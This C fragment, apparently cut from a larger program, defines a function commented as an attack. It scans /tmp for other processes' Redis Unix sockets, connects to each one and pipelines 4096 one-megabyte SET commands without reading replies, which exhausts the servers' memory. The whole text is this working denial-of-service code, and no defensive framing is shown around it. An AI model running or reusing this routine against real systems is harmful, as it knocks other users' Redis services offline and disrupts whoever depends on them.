/* Attack: fills the server's memory, and never reads an answer. */
static void attack(void) {
    static char much[1 << 20];
    DIR *all = opendir("/tmp");
    for (struct dirent *e; all && (e = readdir(all)) != NULL;) {
        char path[300];
        snprintf(path, sizeof path, "/tmp/%s/redis.sock", e->d_name);
        redisContext *c = redisConnectUnix(path);
        for (int i = 0; c && !c->err && i < 4096; i++) {
            int done = 0;
            redisAppendCommand(c, "SET %d %b", i, much, sizeof much);
            while (!done && redisBufferWrite(c, &done) == REDIS_OK) {
            }
        }
    }
}
